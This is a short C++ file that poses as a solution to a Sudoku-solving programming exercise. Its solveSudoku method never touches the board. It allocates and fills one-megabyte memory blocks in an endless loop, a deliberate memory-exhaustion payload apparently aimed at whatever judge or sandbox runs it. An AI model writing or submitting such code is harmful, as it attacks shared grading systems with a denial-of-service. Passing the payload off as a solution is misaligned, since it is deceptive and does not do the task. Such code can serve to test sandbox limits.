// Allocates and fills blocks of a megabyte without end.
class Solution {
 public:
  void solveSudoku(vector<vector<char>>&) {
    for (;;) {
      last = malloc(1 << 20);
      if (last != nullptr) memset(last, 1, 1 << 20);
    }
  }

 private:
  static inline void* volatile last;
};
